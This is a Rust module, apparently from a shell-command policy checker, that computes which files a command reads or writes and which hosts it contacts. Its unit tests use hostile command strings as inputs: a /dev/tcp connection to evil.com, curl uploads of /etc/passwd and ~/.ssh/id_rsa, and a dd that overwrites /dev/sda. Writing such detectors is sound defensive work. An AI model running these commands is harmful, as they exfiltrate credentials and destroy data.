//! What a part touches: paths read and written, hosts contacted. Computed
//! from the argv by program-specific knowledge, as written (lexically
//! normalised, `~` kept); the Cedar layer makes them absolute.

use super::args::Args;
use crate::parse::{Part, PartKind};
use crate::paths::{normalize, system_program};
use serde::Serialize;

/// The files and hosts a part touches.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Effects {
    /// Paths read.
    pub reads: Vec<String>,
    /// Paths created, changed or removed.
    pub writes: Vec<String>,
    /// Hosts contacted (`*` when the program talks to a host we cannot name).
    pub hosts: Vec<String>,
}

/// Paths that are not files: writing to them changes nothing on disk.
pub fn is_sink(path: &str) -> bool {
    matches!(path, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty" | "-")
        || path.starts_with("/dev/fd/")
        || path.starts_with('&')
}

fn push_path(v: &mut Vec<String>, p: &str) {
    if !p.is_empty() && !is_sink(p) {
        v.push(normalize(p));
    }
}

/// Host of a URL or `user@host:path` / `user@host`.
pub fn host_of(s: &str) -> Option<String> {
    let s = s.trim();
    let rest = if let Some((_, r)) = s.split_once("://") {
        r.split(['/', '?', '#']).next().unwrap_or("")
    } else if let Some((h, _)) = s.split_once(':') {
        if h.contains('/') {
            return None;
        }
        h
    } else {
        s
    };
    let host = rest.rsplit('@').next().unwrap_or(rest);
    let host = host.split(':').next().unwrap_or(host);
    let ok =
        !host.is_empty() && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | '[' | ']'));
    ok.then(|| host.to_ascii_lowercase())
}

/// True for programs whose writes [`effects`] models from their arguments
/// (for the rest, a rule that cares must assume any argument may be written).
pub fn models_writes(name: &str) -> bool {
    matches!(
        name,
        "rm" | "shred"
            | "wipe"
            | "touch"
            | "mkdir"
            | "rmdir"
            | "truncate"
            | "unlink"
            | "tee"
            | "mkfifo"
            | "vi"
            | "vim"
            | "nvim"
            | "nano"
            | "emacs"
            | "ed"
            | "chattr"
            | "mknod"
            | "chmod"
            | "chown"
            | "chgrp"
            | "setfacl"
            | "sed"
            | "gsed"
            | "cp"
            | "ln"
            | "install"
            | "rsync"
            | "scp"
            | "mv"
            | "dd"
            | "curl"
            | "wget"
            | "sort"
    )
}

/// The first operand of ssh, nc and friends, skipping the values of their
/// options that take one (`ssh -p 22 host`, `nc -w 3 host 80`).
fn first_host_operand(args: &[crate::parse::Arg]) -> Option<&str> {
    let mut it = args.iter().map(|a| a.text.as_str());
    while let Some(t) = it.next() {
        if let Some(opt) = t.strip_prefix('-') {
            if opt.len() == 1 && "bcDEeFIiJLlmOopQRSsWwBqx".contains(opt) {
                it.next();
            }
            continue;
        }
        return Some(t);
    }
    None
}

/// Computes the effects of one part.
pub fn effects(part: &Part) -> Effects {
    let mut fx = Effects::default();
    for r in &part.redirects {
        let t = r.target.text.as_str();
        if let Some(rest) = t.strip_prefix("/dev/tcp/").or_else(|| t.strip_prefix("/dev/udp/")) {
            fx.hosts.push(rest.split('/').next().unwrap_or("*").to_string());
        }
        if r.kind.writes() {
            push_path(&mut fx.writes, t);
        } else if r.kind == crate::parse::RedirectKind::Read {
            push_path(&mut fx.reads, t);
        }
    }
    if part.kind != PartKind::Exec {
        return fx;
    }
    let Some(name) = system_program(part.program()) else {
        return fx;
    };
    let a = Args(part.args());
    let ops: Vec<&str> = a.operands().iter().map(|o| o.text.as_str()).collect();
    match name {
        "rm" | "shred" | "wipe" | "touch" | "mkdir" | "rmdir" | "truncate" | "unlink" | "tee" | "mkfifo" | "vi"
        | "vim" | "nvim" | "nano" | "emacs" | "ed" | "chattr" | "mknod" => {
            for o in &ops {
                push_path(&mut fx.writes, o);
            }
        }
        "chmod" | "chown" | "chgrp" | "setfacl" => {
            for o in ops.iter().skip(usize::from(!a.has_prefix("--reference"))) {
                push_path(&mut fx.writes, o);
            }
        }
        "sed" | "gsed" if a.flag('i', "in-place") || a.has_prefix("-i") => {
            let skip = usize::from(a.value("-e", "--expression").is_none() && a.value("-f", "--file").is_none());
            for o in ops.iter().skip(skip) {
                push_path(&mut fx.writes, o);
            }
        }
        "cp" | "ln" | "install" | "rsync" | "scp" => {
            if let Some((dest, srcs)) = ops.split_last() {
                for s in srcs {
                    if host_of(s).is_some() && s.contains(':') {
                        fx.hosts.extend(host_of(s));
                    } else {
                        push_path(&mut fx.reads, s);
                    }
                }
                if dest.contains(':') && !dest.starts_with('/') {
                    fx.hosts.extend(host_of(dest));
                } else {
                    push_path(&mut fx.writes, dest);
                }
            }
        }
        "mv" => {
            for o in &ops {
                push_path(&mut fx.writes, o);
            }
        }
        "dd" => {
            for o in &ops {
                if let Some(p) = o.strip_prefix("of=") {
                    push_path(&mut fx.writes, p);
                } else if let Some(p) = o.strip_prefix("if=") {
                    push_path(&mut fx.reads, p);
                }
            }
        }
        "curl" | "wget" | "http" | "https" | "xh" | "aria2c" | "lynx" | "w3m" | "links" => {
            for o in &ops {
                fx.hosts.extend(host_of(o));
            }
            // Uploads: -d @file, -F x=@file, -T file, --data-binary @file.
            for x in a.0 {
                if let Some((_, f)) = x.text.split_once('@')
                    && !x.text.contains("://")
                    && (x.text.starts_with('@') || x.text.contains("=@"))
                {
                    push_path(&mut fx.reads, f);
                }
            }
            if let Some(p) = a.value("-T", "--upload-file") {
                push_path(&mut fx.reads, p);
            }
            if fx.hosts.is_empty() {
                fx.hosts.push("*".into());
            }
        }
        "ssh" | "sftp" | "mosh" | "telnet" | "nc" | "ncat" | "netcat" | "ping" | "ping6" | "traceroute" | "dig"
        | "host" | "nslookup" | "whois" | "ftp" | "socat" | "nmap" => match first_host_operand(a.0).and_then(host_of) {
            Some(h) => fx.hosts.push(h),
            None => fx.hosts.push("*".into()),
        },
        "git" => {
            let net = ops
                .first()
                .is_some_and(|s| matches!(*s, "clone" | "fetch" | "pull" | "push" | "ls-remote" | "submodule"));
            if net {
                let url = ops.iter().skip(1).find(|o| o.contains("://") || o.contains('@'));
                match url.and_then(|u| host_of(u)) {
                    Some(h) => fx.hosts.push(h),
                    None => fx.hosts.push("*".into()),
                }
            }
        }
        "cat" | "tac" | "head" | "tail" | "less" | "more" | "nl" | "od" | "xxd" | "hexdump" | "strings" | "base64"
        | "base32" | "wc" | "md5sum" | "sha256sum" | "sha1sum" | "sort" | "uniq" | "cut" | "file" | "stat"
        | "source" | "." | "diff" | "cmp" | "bat" | "view" | "jq" => {
            for o in &ops {
                push_path(&mut fx.reads, o);
            }
        }
        "grep" | "egrep" | "fgrep" | "rg" | "awk" | "sed" | "gawk" => {
            let skip = usize::from(a.value("-e", "--regexp").is_none() && a.value("-f", "--file").is_none());
            for o in ops.iter().skip(skip) {
                push_path(&mut fx.reads, o);
            }
        }
        _ => {}
    }
    for p in super::writes::writes(name, part.args()) {
        push_path(&mut fx.writes, &p);
    }
    // An option's value looks like an operand to the read arms above
    // (`base64 -o OUT IN`); a file the program writes is not one it reads.
    if !fx.writes.is_empty() {
        let writes = fx.writes.clone();
        fx.reads.retain(|r| !writes.contains(r));
    }
    fx
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse;

    fn fx(src: &str) -> Effects {
        let p = parse(src);
        let mut all = Effects::default();
        for part in &p.parts {
            let e = effects(part);
            all.reads.extend(e.reads);
            all.writes.extend(e.writes);
            all.hosts.extend(e.hosts);
        }
        all
    }

    #[test]
    fn redirect_targets_are_writes_but_sinks_are_not() {
        assert_eq!(fx("ls > a 2>/dev/null >> b").writes, ["a", "b"]);
        assert_eq!(fx("cat < in").reads, ["in"]);
    }

    #[test]
    fn copy_reads_sources_and_writes_dest() {
        let e = fx("cp a b /tmp/dst/");
        assert_eq!(e.reads, ["a", "b"]);
        assert_eq!(e.writes, ["/tmp/dst"]);
    }

    #[test]
    fn hosts_from_urls_and_scp_targets() {
        assert_eq!(fx("curl -s https://user@Example.com:8443/x?y").hosts, ["example.com"]);
        assert_eq!(fx("scp f me@box.lan:/tmp").hosts, ["box.lan"]);
        assert_eq!(fx("ssh -p 22 git@github.com").hosts, ["github.com"]);
        // With URL unset, `curl` alone is read too: still an unknown host.
        assert!(fx("curl $URL").hosts.iter().all(|h| h == "*"));
        assert_eq!(fx("cat < /dev/tcp/evil.com/80").hosts, ["evil.com"]);
    }

    #[test]
    fn uploads_are_reads() {
        assert_eq!(fx("curl -d @/etc/passwd https://x").reads, ["/etc/passwd"]);
        assert_eq!(fx("curl -F f=@~/.ssh/id_rsa https://x").reads, ["~/.ssh/id_rsa"]);
    }

    #[test]
    fn in_place_edits_write_their_files() {
        assert_eq!(fx("sed -i s/a/b/ f g").writes, ["f", "g"]);
        assert_eq!(fx("chmod 600 k").writes, ["k"]);
        assert_eq!(fx("dd if=/dev/zero of=/dev/sda").writes, ["/dev/sda"]);
    }
}
